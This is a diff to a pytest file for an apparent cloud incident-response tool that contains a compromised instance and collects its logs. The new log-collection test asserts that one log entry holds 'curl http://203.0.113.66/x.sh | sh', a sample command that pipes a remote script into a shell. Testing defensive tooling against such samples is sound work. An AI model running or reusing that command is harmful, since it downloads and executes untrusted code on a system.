@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 
 from prewire.evidence.verify import verify_case
@@ -24,6 +26,7 @@ def test_contain_instance_protects_snapshots_and_isolates_without_stopping(
         ("snapshot-disks", Status.CHANGED),
         ("isolate-instance", Status.CHANGED),
         ("quarantine-identity", Status.CHANGED),
+        ("collect-logs", Status.COLLECTED),
     ]
     instance = project.instance()
     assert instance["status"] == "RUNNING" and instance["deletionProtection"] is True
@@ -59,7 +62,7 @@ def test_a_second_run_changes_nothing_and_says_so(project: Project) -> None:
     play(open_test_case(project), "contain-instance", VICTIM)
     writes = len(project.posts())
     again = play(open_test_case(project), "contain-instance", VICTIM)
-    assert [o.status for o in again] == [Status.UNCHANGED] * 4
+    assert [o.status for o in again] == [Status.UNCHANGED] * 5
     assert len(project.posts()) == writes
 
 
@@ -75,6 +78,22 @@ def test_release_needs_confirmation_and_restores_what_was_recorded(project: Proj
     assert instance["deletionProtection"] is True  # protection stays
     [again] = act(open_test_case(project, confirm_release=True), "release-instance", VICTIM)
     assert again.status is Status.UNCHANGED
+
+
+def test_logs_of_the_instance_and_its_service_account_are_collected_for_the_window(
+    project: Project,
+) -> None:
+    case = open_test_case(project)
+    [outcome] = act(case, "collect-logs", VICTIM)
+    assert outcome.status is Status.COLLECTED and "3 log entries" in outcome.message
+    assert case.store is not None
+    [logs] = [a for a in outcome.artifacts if a.key.endswith("logs.jsonl")]
+    lines = case.store.open(logs.key).read().decode().splitlines()
+    payloads = [json.loads(line) for line in lines]
+    assert payloads[0]["textPayload"] == "curl http://203.0.113.66/x.sh | sh"
+    assert payloads[2]["protoPayload"]["authenticationInfo"]["principalEmail"] == ACCOUNT
+    calls = [c.operation for c in outcome.calls]
+    assert "entries.list" in calls
 
 
 def test_release_identity_re_enables_only_what_the_case_disabled(project: Project) -> None:
